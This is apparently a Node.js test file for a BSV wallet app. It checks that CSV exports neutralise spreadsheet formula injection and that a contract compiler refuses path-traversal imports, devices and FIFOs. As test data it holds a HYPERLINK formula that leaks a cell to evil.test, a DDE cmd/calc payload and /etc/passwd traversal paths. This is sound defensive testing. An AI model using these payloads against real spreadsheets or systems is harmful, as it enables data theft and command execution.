import assert from 'node:assert/strict';
import { spawnSync, execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import fc from 'fast-check';
import { LockingScript, P2PKH, PrivateKey, SatoshisPerKilobyte, Transaction } from '@bsv/sdk';
import { csvField, csvFile } from '../../shared/csv.js';
import type { HistoryEntry } from '../../shared/operations.js';
import { historyCsv } from '../../renderer/views/history-csv.js';
import { startHeadless } from '../helpers/headless.js';
import { request } from '../helpers/http.js';
import { createOrgWallet, orgCall, setUpOrg, type Org } from '../helpers/org.js';
import { tempDir } from '../helpers/tmp.js';

const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');

/** Reads a CSV file back into rows (RFC 4180 quoting), to check what a spreadsheet would see in each cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;

describe("exports: a stranger's text never becomes a spreadsheet formula (OWASP CSV injection)", () => {
  it('every text cell that would start a formula is prefixed with a quote, and the file still parses to the same cells', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.array(
            fc.oneof(fc.string(), fc.constantFrom('=1+1', '+SUM(A1)', '-2+3', '@cmd', '\t=x', '\r=x', '=HYPERLINK("http://x","y")')),
            { minLength: 1, maxLength: 5 },
          ),
          { maxLength: 5 },
        ),
        (rows) => {
          const width = Math.max(1, ...rows.map((r) => r.length));
          const head = Array.from({ length: width }, (_, i) => `c${i}`);
          const padded = rows.map((r) => [...r, ...Array(width - r.length).fill('')]);
          const back = parseCsv(csvFile(head, padded));
          assert.deepEqual(back[0], head);
          back.slice(1).forEach((r, i) =>
            r.forEach((cell, j) => {
              assert.ok(!FORMULA.test(cell), `cell ${JSON.stringify(cell)} would run as a formula`);
              const original = padded[i][j];
              assert.equal(cell, FORMULA.test(original) ? `'${original}` : original);
            }),
          );
        },
      ),
    );
  });

  it('numbers stay numbers (a payment out is a negative amount, not text)', () => {
    assert.equal(csvField(-1500), '-1500');
    assert.equal(csvField(0), '0');
    assert.equal(csvField(null), '');
    assert.equal(csvField('-1500'), "'-1500");
  });

  describe('a stranger pays with a hostile memo and sender name', () => {
    let org: Org;
    let walletID: string;
    before(async () => {
      org = await setUpOrg(
        await startHeadless({ dataDir: tempDir(), password: 'pw', args: ['--mine-interval', '0', '--paymail-domain', 'acme.test'] }),
      );
      walletID = await createOrgWallet(org, { walletTitle: 'Shop', paymail: 'shop', paymailActivate: true });
    });
    after(() => org.host.stop());

    it('the history export neutralises the memo and the sender the stranger chose', async () => {
      const payer = PrivateKey.fromRandom();
      const f = await orgCall(org, 'POST', '/chain/faucet', { body: { address: payer.toAddress(), satoshis: 20_000 } });
      assert.equal(f.status, 200, JSON.stringify(f.body));
      const source = Transaction.fromHex(
        (await request(org.host.url, 'GET', `/chain/woc/v1/bsv/local/tx/${f.body.data.txid}/hex`)).body as string,
      );
      const dest = await request(org.host.url, 'POST', '/api/bsvalias/p2p-payment-destination/shop@acme.test', {
        body: { satoshis: 5_000 },
      });
      assert.equal(dest.status, 200, JSON.stringify(dest.body));
      const tx = new Transaction();
      tx.addInput({
        sourceTransaction: source,
        sourceOutputIndex: source.outputs.findIndex((o) => o.satoshis === 20_000),
        unlockingScriptTemplate: new P2PKH().unlock(payer),
      });
      for (const o of dest.body.outputs as { script: string; satoshis: number }[])
        tx.addOutput({ lockingScript: LockingScript.fromHex(o.script), satoshis: o.satoshis });
      tx.addOutput({ lockingScript: new P2PKH().lock(payer.toAddress()), change: true });
      await tx.fee(new SatoshisPerKilobyte(1));
      await tx.sign();
      const memo = `=HYPERLINK("http://evil.test/?"&A1,"Invoice")`;
      const sender = "@SUM(1+1)*cmd|' /C calc'!A0";
      const r = await request(org.host.url, 'POST', '/api/bsvalias/receive-transaction/shop@acme.test', {
        body: { hex: tx.toHex(), reference: dest.body.reference, metadata: { sender, note: memo } },
      });
      assert.equal(r.status, 200, JSON.stringify(r.body));

      const h = await orgCall(org, 'GET', '/v1/history', { headers: { walletID } });
      assert.equal(h.status, 200, JSON.stringify(h.body));
      const entries = h.body.data.history as HistoryEntry[];
      const row = entries.find((e) => e.txid === tx.id('hex'));
      assert.ok(row, 'the payment is on the books');
      assert.equal(row.memo, memo, 'the API gives the memo as it was sent');
      assert.ok(row.counterparty?.toLowerCase().startsWith('@sum'), `the API gives the sender as it was named: ${row.counterparty}`);

      const cells = parseCsv(historyCsv(entries)).slice(1);
      for (const cell of cells.flat())
        if (typeof cell === 'string' && !/^-?\d+$/.test(cell))
          assert.ok(!FORMULA.test(cell), `exported cell ${JSON.stringify(cell)} would run`);
      const exported = cells.find((c) => c[1] === row.txid)!;
      assert.equal(exported[7], `'${memo}`);
      assert.ok(exported[6].toLowerCase().startsWith("'@sum"), exported[6]);
    });
  });
});

describe('the offline compiler reads imports only inside the project, and never too much', () => {
  const cli = (args: string[], cwd: string) =>
    spawnSync(process.execPath, ['--import', import.meta.resolve('tsx'), path.join(ROOT, 'main', 'cli.ts'), ...args], {
      cwd,
      encoding: 'utf8',
      timeout: 60_000,
    });
  const contract = (imports: string[]) => `${imports.map((i) => `import "${i}";`).join('\n')}
contract Main {
  int x;
  public function unlock(int y) {
    require(Util.twice(y) == this.x);
  }
}
`;
  const util = 'library Util {\n  static function twice(int a) : int {\n    return a * 2;\n  }\n}\n';
  let project: string;
  let outside: string;

  before(() => {
    const base = tempDir();
    project = path.join(base, 'project');
    outside = path.join(base, 'shared-lib');
    mkdirSync(path.join(project, 'lib'), { recursive: true });
    mkdirSync(outside, { recursive: true });
    writeFileSync(path.join(project, 'lib', 'util.scrypt'), util);
    writeFileSync(path.join(outside, 'util.scrypt'), util);
  });

  it("compiles with an import below the entry file's folder", () => {
    writeFileSync(path.join(project, 'Good.scrypt'), contract(['lib/util.scrypt']));
    const r = cli(['compile', 'Good.scrypt'], project);
    assert.equal(r.status, 0, r.stderr);
  });

  it("refuses an import above the entry file's folder, absolute or relative, unless its folder is named with --import-root", () => {
    writeFileSync(path.join(project, 'Up.scrypt'), contract(['../shared-lib/util.scrypt']));
    const refused = cli(['compile', 'Up.scrypt'], project);
    assert.equal(refused.status, 1);
    assert.match(refused.stderr, /outside the folders imports may come from/);
    const allowed = cli(['compile', 'Up.scrypt', '--import-root', outside], project);
    assert.equal(allowed.status, 0, allowed.stderr);
    for (const target of ['../../../../../../../../etc/passwd', '/etc/passwd']) {
      writeFileSync(path.join(project, 'Passwd.scrypt'), contract([target]));
      const r = cli(['compile', 'Passwd.scrypt'], project);
      assert.equal(r.status, 1);
      assert.doesNotMatch(r.stderr, /root:/, 'nothing of the file is shown');
    }
  });

  it('refuses devices, FIFOs, oversized files and links that leave the folder, without hanging or exhausting memory', () => {
    writeFileSync(path.join(project, 'Big.scrypt'), contract(['lib/big.scrypt']));
    writeFileSync(path.join(project, 'lib', 'big.scrypt'), `// ${'x'.repeat(1_100_000)}\n`);
    const big = cli(['compile', 'Big.scrypt'], project);
    assert.equal(big.status, 1);
    assert.match(big.stderr, /bytes; 1000000 at most|larger than/);

    symlinkSync('/dev/zero', path.join(project, 'lib', 'zero.scrypt'));
    writeFileSync(path.join(project, 'Zero.scrypt'), contract(['lib/zero.scrypt']));
    const zero = cli(['compile', 'Zero.scrypt'], project);
    assert.equal(zero.status, 1);
    assert.match(zero.stderr, /outside the folders/);
    const zeroRooted = cli(['compile', 'Zero.scrypt', '--import-root', '/dev'], project);
    assert.equal(zeroRooted.status, 1);
    assert.match(zeroRooted.stderr, /not a regular file/);

    execFileSync('mkfifo', [path.join(project, 'lib', 'pipe.scrypt')]);
    writeFileSync(path.join(project, 'Pipe.scrypt'), contract(['lib/pipe.scrypt']));
    const pipe = cli(['compile', 'Pipe.scrypt'], project);
    assert.equal(pipe.status, 1, 'a FIFO import is refused, not waited on');
    assert.match(pipe.stderr, /not a regular file/);
  });

  it('refuses an entry file that is not a regular file or too large', () => {
    const r = cli(['compile', '/dev/zero'], project);
    assert.equal(r.status, 2);
    assert.match(r.stderr, /not a regular file/);
  });
});
